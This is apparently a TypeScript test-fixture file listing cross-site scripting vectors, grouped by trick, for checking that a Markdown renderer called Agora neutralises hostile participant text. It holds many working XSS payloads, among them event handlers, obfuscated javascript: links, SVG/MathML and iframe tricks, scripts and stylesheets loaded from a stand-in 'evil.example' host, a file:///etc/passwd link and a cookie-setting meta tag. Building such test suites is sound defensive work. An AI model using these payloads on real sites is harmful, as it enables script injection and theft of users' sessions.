/**
 * Hostile inputs for the renderer of participants' text, grouped by the trick they
 * try. Written for Agora's renderer (Markdown, no raw HTML, http/https/mailto links,
 * hashtags), so many aim at the Markdown syntax rather than at an HTML sanitiser.
 *
 * `visible`: words a reader must still see once rendered. When it is left out, every
 * run of three or more letters outside an entity reference is expected to stay on the
 * page as text: what is not run must still be shown, not silently dropped.
 */

export type XssFamily =
  | 'script-tag'
  | 'event-handler'
  | 'url-scheme'
  | 'url-obfuscation'
  | 'svg-mathml'
  | 'embedding'
  | 'markdown-link'
  | 'markdown-image'
  | 'markdown-reference'
  | 'markdown-autolink'
  | 'markdown-title'
  | 'markdown-block'
  | 'html-entity'
  | 'unicode-lookalike'
  | 'protocol-relative'
  | 'backtick'
  | 'comment-cdata'
  | 'hashtag';

export interface XssVector {
  family: XssFamily;
  input: string;
  visible?: readonly string[];
}

const v = (family: XssFamily, input: string, visible?: readonly string[]): XssVector =>
  visible ? { family, input, visible } : { family, input };

export const XSS_VECTORS: readonly XssVector[] = [
  // Script elements in many spellings
  v('script-tag', '<script>alert(1)</script>'),
  v('script-tag', '<SCRIPT>alert(document.domain)</SCRIPT>'),
  v('script-tag', '<ScRiPt >prompt(7)</sCrIpT >'),
  v('script-tag', '<script src="https://evil.example/x.js"></script>'),
  v('script-tag', '<script/src=//evil.example/x.js></script>'),
  v('script-tag', '<script\n>alert(2)</script\n>'),
  v('script-tag', '<<script>script>alert(3)<</script>/script>'),
  v('script-tag', '<scr<script>ipt>alert(4)</scr</script>ipt>'),
  v('script-tag', '<script type="module">import("//evil.example/m.js")</script>'),
  v('script-tag', '<noscript><p title="</noscript><script>alert(9)</script>">'),
  v('script-tag', '\\<script>alert(7)\\</script>'),
  v('script-tag', '%3Cscript%3Ealert(8)%3C%2Fscript%3E'),
  v('script-tag', '<script>/*</script><script>*/alert(10)</script>'),
  v('script-tag', 'before<script\u0000>alert(11)</script>after'),

  // Event-handler attributes
  v('event-handler', '<img src=x onerror=alert(1)>'),
  v('event-handler', '<IMG SRC=x OnErRoR="alert(2)">'),
  v('event-handler', '<body onload=alert(3)>'),
  v('event-handler', '<div onmouseover="alert(4)">hover me</div>'),
  v('event-handler', '<input autofocus onfocus=alert(5)>'),
  v('event-handler', '<details open ontoggle=alert(6)>'),
  v('event-handler', '<video><source onerror="alert(7)"></video>'),
  v('event-handler', '<audio src=x onerror=alert(8)>'),
  v('event-handler', '<marquee onstart=alert(9)>scrolling</marquee>'),
  v('event-handler', '<img src=x onerror\n=alert(10)>'),
  v('event-handler', '<img/src="x"/onerror="alert(11)">'),
  v('event-handler', '<a href="#" onclick="alert(12)">click</a>'),
  v('event-handler', '<select autofocus onfocus=alert(13)>'),
  v('event-handler', '<form><button formaction=javascript:alert(14)>send</button></form>'),
  v('event-handler', '<x onpointerenter=alert(15)>pointer</x>'),
  v('event-handler', '<img src=x onerror=&#97;lert(16)>'),
  v('event-handler', '<img src="x` `<script>alert(17)</script>"` `>'),

  // Dangerous schemes in Markdown links, in any case
  v('url-scheme', '[click](javascript:alert(1))'),
  v('url-scheme', '[click](JAVASCRIPT:alert(2))'),
  v('url-scheme', '[click](JaVaScRiPt:alert(3))'),
  v('url-scheme', '[click](vbscript:msgbox(4))'),
  v('url-scheme', '[click](VBScript:MsgBox(5))'),
  v('url-scheme', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==)'),
  v('url-scheme', '[click](DATA:text/html,<script>alert(7)</script>)'),
  v('url-scheme', '[click](data:image/svg+xml,<svg onload=alert(8)>)'),
  v('url-scheme', '[click](livescript:alert(9))'),
  v('url-scheme', '[click](file:///etc/passwd)'),
  v('url-scheme', '[click](ftp://evil.example/payload)'),
  v('url-scheme', '[click](jar:https://evil.example!/payload)'),
  v('url-scheme', '[click](blob:https://evil.example/1234)'),
  v('url-scheme', '[click](about:blank)'),
  v('url-scheme', '[click](chrome://settings)'),
  v('url-scheme', '[click](mailto:javascript:alert(10))', ['click']),

  // The same schemes hidden by entities, percent-encoding, whitespace and control characters
  v('url-obfuscation', '[x](&#106;avascript:alert(1))'),
  v('url-obfuscation', '[x](&#x6A;avascript:alert(2))'),
  v('url-obfuscation', '[x](&#0000106;&#0000097;vascript:alert(3))'),
  v('url-obfuscation', '[x](javascript&colon;alert(4))'),
  v('url-obfuscation', '[x](javascript&#58;alert(5))'),
  v('url-obfuscation', '[x](javascript&#x3a;alert(6))'),
  v('url-obfuscation', '[x](java&Tab;script:alert(7))'),
  v('url-obfuscation', '[x](java&#9;script:alert(8))'),
  v('url-obfuscation', '[x](java&NewLine;script:alert(9))'),
  v('url-obfuscation', '[x](%6Aavascript:alert(10))'),
  v('url-obfuscation', '[x](javascript%3Aalert(11))'),
  v('url-obfuscation', '[x]( javascript:alert(12))'),
  v('url-obfuscation', '[x](\tjavascript:alert(13))'),
  v('url-obfuscation', '[x](<java script:alert(14)>)'),
  v('url-obfuscation', '[x](java\u0000script:alert(15))'),
  v('url-obfuscation', '[x](\u0001javascript:alert(16))'),
  v('url-obfuscation', '[x](javascript\u000b:alert(17))'),
  v('url-obfuscation', '[x](java\nscript:alert(18))'),
  v('url-obfuscation', '[x](\u200bjavascript:alert(19))'),
  v('url-obfuscation', '[x](javascript:\\u0061lert(20))'),
  v('url-obfuscation', '[x](https:javascript:alert(21))'),
  v('url-obfuscation', '[x](javascript://%0Aalert(22))'),
  v('url-obfuscation', '[x](javascript://comment%250Aalert(23))'),
  v('url-obfuscation', '[x](\u0000javascript:alert(24))'),
  v('url-obfuscation', '[x](\\javascript:alert(25))'),
  v('url-obfuscation', '[x](&#x0026;#106;avascript:alert(26))'),

  // SVG and MathML
  v('svg-mathml', '<svg onload=alert(1)>'),
  v('svg-mathml', '<svg><script>alert(2)</script></svg>'),
  v(
    'svg-mathml',
    '<svg><a xlink:href="javascript:alert(3)"><text x="0" y="20">tap</text></a></svg>',
  ),
  v('svg-mathml', '<svg><animate attributeName="href" values="javascript:alert(4)"/></svg>'),
  v('svg-mathml', '<svg><set attributeName="onmouseover" to="alert(5)"/></svg>'),
  v(
    'svg-mathml',
    '<svg><foreignObject><iframe src="javascript:alert(6)"></iframe></foreignObject></svg>',
  ),
  v('svg-mathml', '<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>'),
  v('svg-mathml', '<math href="javascript:alert(8)">formula</math>'),
  v(
    'svg-mathml',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(9)">m</maction></math>',
  ),
  v('svg-mathml', '<svg><style>@import "//evil.example/x.css";</style></svg>'),
  v('svg-mathml', '<svg/onload=alert`11`>'),

  // Frames, plugins and document-level elements
  v('embedding', '<iframe src="javascript:alert(1)"></iframe>'),
  v('embedding', '<iframe srcdoc="<script>alert(2)</script>"></iframe>'),
  v('embedding', '<IFRAME SRC=//evil.example/frame>'),
  v('embedding', '<object data="javascript:alert(3)"></object>'),
  v('embedding', '<object type="text/x-scriptlet" data="//evil.example/scriptlet"></object>'),
  v('embedding', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">'),
  v('embedding', '<base href="javascript:alert(5)//">'),
  v('embedding', '<base href="//evil.example/">'),
  v('embedding', '<meta http-equiv="refresh" content="0;url=javascript:alert(6)">'),
  v('embedding', '<meta http-equiv="Set-Cookie" content="session=stolen">'),
  v('embedding', '<style>body{background:url("javascript:alert(7)")}</style>'),
  v('embedding', '<style>@import url(//evil.example/steal.css);</style>'),
  v('embedding', '<link rel="stylesheet" href="//evil.example/x.css">'),
  v('embedding', '<div style="background-image:url(javascript:alert(8))">styled</div>'),
  v('embedding', '<p style="width:expression(alert(9))">legacy</p>'),
  v('embedding', '<frameset onload=alert(10)>'),
  v('embedding', '<applet code="Evil.class"></applet>'),
  v('embedding', '<portal src=//evil.example/portal>'),

  // Markdown links
  v('markdown-link', '[a](javascript:alert(1) "title")'),
  v('markdown-link', '[a]( <javascript:alert(2)> )'),
  v('markdown-link', '[a\\](javascript:alert(3))'),
  v('markdown-link', '[a](javascript:alert(4)'),
  v('markdown-link', '[a](javascript:alert`5`)'),
  v('markdown-link', '[a](javascript:alert(6))[b](http://ok.example/b)', ['javascript', 'alert']),
  v('markdown-link', '[[a](javascript:alert(7))](http://ok.example/outer)', [
    'javascript',
    'alert',
  ]),
  v('markdown-link', '[a](#javascript:alert(8))'),
  v('markdown-link', '[a](?javascript:alert(9))'),
  v('markdown-link', '[a](http://ok.example)(javascript:alert(10))', ['javascript', 'alert']),
  v('markdown-link', '[**bold** and *em*](javascript:alert(11))'),
  v('markdown-link', '[a](<http://ok.example> "x" onclick="alert(12)")'),
  v('markdown-link', '[a](http://ok.example/path\\"onclick=alert(13))', []),
  v('markdown-link', '[a](/relative/path)'),
  v('markdown-link', '[<img src=x onerror=alert(14)>](http://ok.example)', [
    'img',
    'onerror',
    'alert',
  ]),

  // Markdown images (images are not part of the subset: no <img> may come out)
  v('markdown-image', '![x](javascript:alert(1))'),
  v('markdown-image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMik+)'),
  v('markdown-image', '![x" onerror="alert(3)](http://ok.example/x.png)', ['onerror', 'alert']),
  v('markdown-image', '![x](http://ok.example/x.png"onerror="alert(4))', []),
  v('markdown-image', '![x](x onerror=alert(5))'),
  v('markdown-image', '![![inner](javascript:alert(6))](http://ok.example)', [
    'inner',
    'javascript',
  ]),
  v('markdown-image', '!["><img src=x onerror=alert(7)>](http://ok.example/y.png)', [
    'img',
    'onerror',
  ]),

  // Reference links
  v('markdown-reference', '[x][evil]\n\n[evil]: javascript:alert(1)'),
  v('markdown-reference', '[evil]\n\n[evil]: <javascript:alert(2)>'),
  v('markdown-reference', '[x][r]\n\n[r]: http://ok.example "a" onclick="alert(3)"'),
  v(
    'markdown-reference',
    '[x][r]\n\n[r]: http://ok.example\n  "title with \\"quotes\\" and <script>"',
    [],
  ),
  v('markdown-reference', '[r]: JaVaScRiPt:alert(4)\n[x][r]'),
  v('markdown-reference', '[x][]\n\n[x]: data:text/html,<script>alert(5)</script>'),
  v('markdown-reference', '[x][r]\n\n[r]:\njavascript:alert(6)'),
  v('markdown-reference', '[r]: http://ok.example/ref\n\n[r] and [r][] and [r][r]', ['and']),

  // Autolinks and bare addresses
  v('markdown-autolink', '<javascript:alert(1)>'),
  v('markdown-autolink', '<JAVASCRIPT:alert(2)>'),
  v('markdown-autolink', '<vbscript:msgbox(3)>'),
  v('markdown-autolink', '<data:text/html,<script>alert(4)</script>>'),
  v('markdown-autolink', '<http://ok.example/"onmouseover="alert(5)>'),
  v('markdown-autolink', '<mailto:someone@example.org?body=<script>alert(6)</script>>'),
  v('markdown-autolink', '<java\tscript:alert(7)>'),
  v('markdown-autolink', 'https://ok.example/path?q=<svg/onload=alert(8)>'),
  v('markdown-autolink', 'see javascript:alert(9) and vbscript:msgbox(10)'),
  v('markdown-autolink', 'http://ok.example/"><script>alert(11)</script>'),

  // Titles and quotes
  v('markdown-title', '[a](http://ok.example "x\\" onmouseover=\\"alert(1)")', []),
  v('markdown-title', "[a](http://ok.example 'x\\' onmouseover=\\'alert(2)')", []),
  v('markdown-title', '[a](http://ok.example (x" onmouseover="alert(3)))', []),
  v('markdown-title', '[a](http://ok.example "&quot; onmouseover=&quot;alert(4)")', []),
  v('markdown-title', '[a](http://ok.example "<script>alert(5)</script>")', []),
  v('markdown-title', '[a](http://ok.example "title" "second" onclick=alert(6))'),

  // Block syntax around a payload
  v('markdown-block', '> <script>alert(1)</script>'),
  v('markdown-block', '1. [x](javascript:alert(2))'),
  v('markdown-block', '- <img src=x onerror=alert(3)>'),
  v('markdown-block', '7. first\n8. <svg onload=alert(4)>'),
  v('markdown-block', '# <script>alert(5)</script>'),
  v('markdown-block', '    <script>alert(6)</script>'),
  v('markdown-block', '***\n<script>alert(7)</script>\n***'),
  v('markdown-block', '| a | <script>alert(8)</script> |\n|---|---|'),
  v('markdown-block', '> - > 1. [x](javascript:alert(9))'),

  // HTML entities that decode to markup
  v('html-entity', '&lt;img src=x onerror=alert(1)&gt;'),
  v('html-entity', '&#x3C;svg onload=alert(2)&#x3E;'),
  v('html-entity', '&amp;lt;script&amp;gt;alert(3)'),
  v('html-entity', '&#0;&#xD800;&#1114112; broken numbers'),
  v('html-entity', '&ThisIsNotAnEntity; &#99999999; &#xZZ; unknown'),
  v('html-entity', '&quot;&gt;&lt;script&gt;alert(4)&lt;/script&gt;'),
  v('html-entity', '\\&lt;script\\&gt;alert(5)'),
  v('html-entity', '&lt;a href=&quot;javascript:alert(6)&quot;&gt;link&lt;/a&gt;'),

  // Unicode look-alikes
  v('unicode-lookalike', '[x](ｊａｖａｓｃｒｉｐｔ:alert(1))'),
  v('unicode-lookalike', '[x](\u0458avascript:alert(2))'),
  v('unicode-lookalike', '[x](java\u0455cript:alert(3))'),
  v('unicode-lookalike', '<\u0455cript>alert(4)</\u0455cript>'),
  v('unicode-lookalike', '\uFF1Cscript\uFF1Ealert(5)\uFF1C/script\uFF1E'),
  v('unicode-lookalike', '[x](javascript\uFF1Aalert(6))'),
  v('unicode-lookalike', '[x](\u202Ejavascript:alert(7))'),
  v('unicode-lookalike', '[x](java\u00ADscript:alert(8))'),
  v('unicode-lookalike', '[paypal](https://p\u0430yp\u0430l.example)', ['paypal']),
  v('unicode-lookalike', '\u2329script\u232Aalert(9)\u2329/script\u232A'),
  v('unicode-lookalike', '[x](javascript\uFE55alert(10))'),

  // Protocol-relative and path tricks
  v('protocol-relative', '[x](//evil.example)'),
  v('protocol-relative', '[x](///evil.example)'),
  v('protocol-relative', '[x](\\\\evil.example)'),
  v('protocol-relative', '[x](/\\evil.example)'),
  v('protocol-relative', '<//evil.example>'),
  v('protocol-relative', '//evil.example/x.js'),
  v('protocol-relative', '[x](https:/\\evil.example)'),
  v('protocol-relative', '[x](http:\\\\evil.example)'),
  v('protocol-relative', '[x](https:evil.example)'),

  // Backticks
  v('backtick', '`<script>alert(1)</script>`'),
  v('backtick', '``[x](javascript:alert(2))``'),
  v('backtick', '`` ` ``<img src=x onerror=alert(3)>'),
  v('backtick', '<img src=`x` onerror=`alert(4)`>'),
  v('backtick', '```\n<script>alert(5)</script>\n```'),
  v('backtick', '`unclosed <b onclick=alert(6)>'),
  v('backtick', '[`code`](javascript:alert(7))'),

  // Comments, CDATA, processing instructions
  v('comment-cdata', '<!-- <script>alert(1)</script> -->'),
  v('comment-cdata', '<!--><img src=x onerror=alert(2)>-->'),
  v('comment-cdata', '<![CDATA[<script>alert(3)</script>]]>'),
  v('comment-cdata', '<!--[if IE]><script>alert(4)</script><![endif]-->'),
  v('comment-cdata', '<?xml-stylesheet href="javascript:alert(5)"?>'),
  v('comment-cdata', '<!DOCTYPE x [<!ENTITY e "<script>alert(6)</script>">]>&e;'),
  v('comment-cdata', '--><script>alert(7)</script><!--'),
  v('comment-cdata', '<!--<img src="--><img src=x onerror=alert(8)//">'),

  // Hashtags: the one place the renderer writes an address from the participant's text
  v('hashtag', '#"><script>alert(1)</script>'),
  v('hashtag', '#tag" onmouseover="alert(2)'),
  v('hashtag', '#a/../../admin'),
  v('hashtag', '#%2e%2e%2fadmin'),
  v('hashtag', '[#inside](javascript:alert(3))'),
  v('hashtag', '#javascript:alert(4)'),
  v('hashtag', '#ｊａｖａｓｃｒｉｐｔ and #\u0458ava'),
  v('hashtag', '#tag?x=1&y=<b>2</b>'),
  v('hashtag', '#ta\u0000g #ta\u200bg'),
];
